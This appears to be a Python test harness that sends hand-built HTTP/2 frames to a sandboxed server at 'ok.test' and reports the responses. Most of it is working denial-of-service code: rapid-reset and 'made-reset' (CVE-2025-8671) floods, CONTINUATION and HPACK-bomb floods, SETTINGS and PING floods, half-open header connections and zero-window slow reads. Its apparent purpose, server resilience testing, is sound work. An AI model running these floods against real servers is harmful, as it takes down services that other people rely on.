"""HTTP/2 as a hostile program speaks it, run inside a sandbox (and bare, for the twin): python3 inside_h2.py NAME ARG...

Frames are written as they are asked for, with no library between that would refuse to; hpack (python3-hpack) packs the fields.
What came back is printed as JSON, and nothing is concluded here. `client` is the library (python3-h2) as its users have it.
"""
import contextlib
import json
import socket
import ssl
import struct
import sys
import time

from hpack import Decoder, Encoder

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOOD = [(":method", "GET"), (":scheme", "https"), (":authority", "ok.test"), (":path", "/t")]
CHUNK = 16384


def frame(kind, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, sid) + payload


class Connection:
    def __init__(self, sni="ok.test", host="ok.test", settings=b"", alpn=("h2",), patience=3):
        tls = ssl.create_default_context()
        tls.check_hostname = False
        tls.set_alpn_protocols(list(alpn))
        self.s = tls.wrap_socket(socket.create_connection((host, 443), 5), server_hostname=sni)
        self.patience = patience
        self.s.settimeout(patience)
        self.alpn = self.s.selected_alpn_protocol()
        self.encoder, self.decoder, self.data = Encoder(), Decoder(), b""
        self.opened, self.streams, self.settings, self.frames = set(), {}, {}, 0
        self.goaway = self.end = None
        self.window = True      # gives back what was read
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))

    def pack(self, fields):
        return self.encoder.encode([(n.encode("latin-1"), v.encode("latin-1")) for n, v in fields])

    def headers(self, sid, fields, end=True):
        """In one frame and, where it is too long for one, others behind it."""
        block = self.pack(fields)
        self.opened.add(sid)
        parts = [block[i:i + CHUNK] for i in range(0, len(block), CHUNK)] or [b""]
        out = b""
        for i, part in enumerate(parts):
            flags = (END_HEADERS if i + 1 == len(parts) else 0) | (END_STREAM if end and i == 0 else 0)
            out += frame(CONTINUATION if i else HEADERS, flags if not i else flags & END_HEADERS, sid, part)
        self.s.sendall(out)

    def step(self, step):
        kind = step[0]
        if kind == "h":
            self.headers(step[1], step[2], step[3])
        elif kind == "d":
            self.opened.add(step[1])
            self.s.sendall(frame(DATA, END_STREAM if step[3] else 0, step[1], step[2].encode("latin-1")))
        elif kind == "f":
            self.s.sendall(frame(step[1], step[2], step[3], step[4].encode("latin-1")))
        elif kind == "raw":
            self.s.sendall(step[1].encode("latin-1"))
        else:
            self.read_for(step[1])

    def got(self, kind, flags, sid, payload):
        self.frames += 1
        e = self.streams.setdefault(sid, {}) if sid else {}
        if kind == SETTINGS and not flags & ACK:
            self.settings.update(struct.unpack(">HI", payload[i:i + 6]) for i in range(0, len(payload), 6))
            self.s.sendall(frame(SETTINGS, ACK, 0))
        elif kind == HEADERS:
            fields = self.decoder.decode(payload, raw=True)
            status = next((int(v) for n, v in fields if n == b":status"), -5)
            if status >= 200 or status < 0:
                e["status"] = status
        elif kind == DATA:
            e["bytes"] = e.get("bytes", 0) + len(payload)
            if len(e.setdefault("text", "")) < 400:
                e["text"] += payload.decode("latin-1")[:400]
            if self.window and payload:
                self.s.sendall(frame(WINDOW, 0, 0, struct.pack(">I", len(payload))) + frame(WINDOW, 0, sid, struct.pack(">I", len(payload))))
        elif kind == RESET:
            e["reset"] = struct.unpack(">I", payload)[0]
        elif kind == GOAWAY:
            self.goaway = struct.unpack(">I", payload[4:8])[0]
        elif kind == PUSH:
            e["push"] = True
        if kind in (HEADERS, DATA) and flags & END_STREAM:
            e["end"] = True

    def read(self):
        """What there is; False at the end."""
        try:
            data = self.s.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError):
            return True
        except TimeoutError:
            self.end = "late"
            return False
        except OSError as e:
            self.end = f"e{e.errno}"
            return False
        if not data:
            self.end = "eof"
            return False
        self.data += data
        while len(self.data) >= 9 and len(self.data) >= 9 + int.from_bytes(self.data[:3], "big"):
            n, kind, flags, sid = int.from_bytes(self.data[:3], "big"), self.data[3], self.data[4], int.from_bytes(self.data[5:9], "big") & 0x7fffffff
            payload, self.data = self.data[9:9 + n], self.data[9 + n:]
            self.got(kind, flags, sid, payload)
        return True

    def over(self):
        return all("end" in self.streams.get(s, {}) or "reset" in self.streams.get(s, {}) for s in self.opened)

    def read_for(self, seconds):
        """For so long, or until it ends."""
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            self.s.settimeout(max(0.01, until - time.monotonic()))
            if not self.read():
                if self.end != "late":
                    return
                self.end = None
        self.s.settimeout(self.patience)

    def finish(self):
        """Until every stream has ended; without any, what comes within a second."""
        with contextlib.suppress(OSError):
            if not self.opened:
                self.read_for(1)
            while not self.over() and self.read():
                pass

    def result(self):
        return {"alpn": self.alpn, "streams": self.streams, "settings": self.settings, "goaway": self.goaway, "end": self.end}


def rows(path):
    """A JSON file of [name, server name or null, [step, ...]]."""
    with open(path, encoding="ascii") as f:
        todo = json.load(f)
    for name, sni, steps in todo:
        c, result = None, {}
        try:
            c = Connection(sni)
            for step in steps:
                c.step(step)
        except OSError as e:
            result = {"error": f"{type(e).__name__} {e.errno}"}
        if c:
            c.finish()
            result = c.result() | result
            c.s.close()
        print("h2", name, json.dumps(result), flush=True)


def server_names(*names):
    """ClientHellos that offer HTTP/2 and name another host; "-" is none."""
    for name in names:
        try:
            c = Connection(None if name == "-" else name)
            get(c, 1)
            print("sni", name, json.dumps(c.result()), flush=True)
        except OSError as e:
            print("sni", name, "error", e.errno, flush=True)


def get(c, sid, path="/t"):
    c.headers(sid, [*GOOD[:3], (":path", path)])
    c.finish()
    return c.streams.get(sid, {}).get("status", 0)


# ---- what may not go on for ever ----

def flood_frames(c, kind):
    """An endless stream of bytes for this kind of flood."""
    sid = 1
    head = c.pack(GOOD)
    if kind == "bomb":      # one long field in the table, named again and again
        c.headers(1, [*GOOD, ("x", "y" * 3900)])
        head = c.pack([*GOOD, ("x", "y" * 3900)])
        one = c.pack([("x", "y" * 3900)])
        head += one * 15000
    if kind == "continuation":
        c.s.sendall(frame(HEADERS, END_STREAM, sid, head))
    while True:
        if kind == "reset":
            yield frame(HEADERS, END_HEADERS | END_STREAM, sid, head) + frame(RESET, 0, sid, struct.pack(">I", 8))
            sid += 2
        elif kind == "made-reset":      # the server is made to reset (CVE-2025-8671)
            yield frame(HEADERS, END_HEADERS | END_STREAM, sid, head) + frame(WINDOW, 0, sid, bytes(4))
            sid += 2
        elif kind == "too-many":
            yield frame(HEADERS, END_HEADERS, sid, head)
            sid += 2
        elif kind == "continuation":
            yield frame(CONTINUATION, 0, sid, b"")
        elif kind == "continuation-full":
            yield frame(HEADERS, END_STREAM, sid, head) + b"".join(frame(CONTINUATION, 0, sid, b"\0\1x\1y" * 3000) for _ in range(40))
            sid += 2
        elif kind == "settings":
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
        elif kind == "settings-empty":
            yield frame(SETTINGS, 0, 0)
        elif kind == "ping":
            yield frame(PING, 0, 0, b"12345678")
        elif kind == "priority":
            yield frame(PRIORITY, 0, sid, struct.pack(">IB", 0, 16))
            sid += 2
        elif kind == "window":
            yield frame(WINDOW, 0, 0, struct.pack(">I", 1))
        elif kind == "empty-data":
            if sid == 1:
                yield frame(HEADERS, END_HEADERS, 1, c.pack([(":method", "POST"), *GOOD[1:3], (":path", "/post")]))
                sid = 3
            yield frame(DATA, 0, 1, b"")
        elif kind == "padding":
            if sid == 1:
                yield frame(HEADERS, END_HEADERS, 1, c.pack([(":method", "POST"), *GOOD[1:3], (":path", "/post")]))
                sid = 3
            yield frame(DATA, 8, 1, b"\xff" + bytes(255))
        elif kind == "unknown":
            yield frame(0xfa, 0, 0, b"x" * 100)
        elif kind == "table":
            yield frame(HEADERS, END_HEADERS | END_STREAM, sid, b"\x20\x3f\xe1\x1f" * 2000 + head)
            sid += 2
        elif kind == "bomb":
            sid += 2
            parts = [head[i:i + CHUNK] for i in range(0, len(head), CHUNK)]
            yield b"".join(frame(CONTINUATION if i else HEADERS, (END_HEADERS if i + 1 == len(parts) else 0) | (0 if i else END_STREAM), sid, p) for i, p in enumerate(parts))


def flood(kind, most="200000"):
    """Sends until it is ended, or so many; what the end was."""
    c = Connection()
    sent = 0
    c.s.settimeout(10)
    block = b""
    try:
        for data in flood_frames(c, kind):
            block += data
            sent += 1
            if len(block) > 30000 or sent % 100 == 0:
                c.s.sendall(block)
                block = b""
                c.s.setblocking(False)
                while c.read() and c.s.pending():
                    pass
                c.s.settimeout(10)
                if c.end or c.goaway is not None:
                    break
            if sent >= int(most):
                break
    except OSError as e:
        c.end = c.end or f"e{e.errno}"
    if not c.end:
        with contextlib.suppress(OSError):
            c.read_for(1)
    print("flood", kind, json.dumps({"sent": sent, "goaway": c.goaway, "end": c.end, "streams": len(c.streams)}), flush=True)


def half_heads(n):
    """Connections with a request whose fields have no end."""
    held = []
    for _ in range(n):
        c = Connection()
        while not c.settings and c.read():      # what is answered now does not come between the parts of a head
            pass
        c.s.sendall(frame(HEADERS, END_STREAM, 1, c.pack(GOOD)))
        held.append(c)
    return held


def ended(held, seconds):
    """How many of them end within that time, and how."""
    until = time.monotonic() + seconds
    while time.monotonic() < until and [c for c in held if not c.end]:
        time.sleep(0.2)
        for c in held:
            if not c.end:
                c.s.settimeout(0)
                c.read()
    print("ended", sum(c.end is not None for c in held), len(held), *sorted({str(c.end) for c in held}), flush=True)


def floods(*kinds):
    """Each, with another connection beside that is asked before and after; and requests without an end all the while."""
    beside, held = Connection(patience=60), half_heads(100)
    sid = 1
    print("beside before", get(beside, sid), flush=True)
    for kind in kinds:
        flood(kind)
        sid += 2
        try:
            status = get(beside, sid)
        except OSError:
            status = -1
        print("beside", kind, status, flush=True)
    print("beside new", get(Connection(patience=60), 1), flush=True)
    ended(held, 90)


def slow(n, path):
    """Connections of ten streams each that ask for much and take nothing; what one beside them is told, and what came to them."""
    held = []
    for _ in range(int(n)):
        c = Connection(settings=struct.pack(">HI", 4, 0))     # windows of nothing
        for sid in range(1, 20, 2):
            c.headers(sid, [*GOOD[:3], (":path", path)])
        held.append(c)
    time.sleep(0.5)
    print("beside", get(Connection(patience=60), 1), flush=True)
    for c in held:
        c.read_for(0.02)
    print("held", sum(c.end is None for c in held), sum(s.get("bytes", 0) for c in held for s in c.streams.values()), flush=True)


def keep_alive(path, every="0.1"):
    """Streams over one connection, and one that stays open meanwhile; the status of each."""
    c = Connection()
    c.headers(1, [(":method", "POST"), *GOOD[1:3], (":path", "/post")], end=False)
    c.s.sendall(frame(DATA, 0, 1, b"begun"))
    c.opened.discard(1)
    sid = 3
    while True:
        status = get(c, sid, path)
        print("status", status, flush=True)
        if status != 200:
            break
        sid += 2
        time.sleep(float(every))
    with contextlib.suppress(OSError):
        c.s.sendall(frame(DATA, END_STREAM, 1, b"and more"))
        c.opened.add(1)
        c.finish()
    print("open", json.dumps(c.streams.get(1, {})), flush=True)


def client(*targets):
    """Python's h2, as its users have it: METHOD PATH of each, as streams of one connection."""
    import h2.config
    import h2.connection
    import h2.events
    tls = ssl.create_default_context()
    tls.set_alpn_protocols(["h2"])
    s = tls.wrap_socket(socket.create_connection(("ok.test", 443), 5), server_hostname="ok.test")
    s.settimeout(5)
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    c.initiate_connection()
    names, text = {}, {}
    for t in targets:
        method, path = t.split(" ")
        sid = c.get_next_available_stream_id()
        names[sid] = t
        c.send_headers(sid, [(":method", method), (":authority", "ok.test"), (":scheme", "https"), (":path", path), ("user-agent", "h2")], end_stream=method != "POST")
        if method == "POST":
            c.send_data(sid, b"hello", end_stream=True)
    s.sendall(c.data_to_send())
    while names and (data := s.recv(65536)):
        for e in c.receive_data(data):
            if isinstance(e, h2.events.ResponseReceived):
                text[e.stream_id] = dict(e.headers)[":status"]
            elif isinstance(e, h2.events.DataReceived):
                c.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
                text[e.stream_id] += " " + e.data.decode()[:100].strip()
            elif isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)):
                print(names.pop(e.stream_id), "=", text.get(e.stream_id, "reset"), flush=True)
        s.sendall(c.data_to_send())


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
